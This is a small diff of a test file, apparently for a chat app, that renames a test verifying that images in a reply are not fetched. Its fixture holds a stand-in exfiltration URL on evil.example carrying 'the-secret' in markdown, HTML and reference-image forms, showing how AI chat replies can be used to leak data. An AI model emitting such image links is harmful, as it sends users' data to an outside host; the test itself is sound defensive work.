@@ -5,7 +5,7 @@ import { expect, test } from "../support/test";
 const PICTURE = "https://evil.example/?q=the-secret";
 const PAGE = `# Notes\n\n![](${PICTURE})\n\n<img src="${PICTURE}">\n\n[ref]: ${PICTURE}\n![by reference][ref]\n`;
 
-test("h02 a picture in a reply is not fetched", async ({ chat, page, server, context }) => {
+test("h02 l04 a picture in a reply is not fetched", async ({ chat, page, server, context }) => {
   const asked: string[] = [];
   await context.route(/evil\.example/, (route) => {
     asked.push(route.request().url());
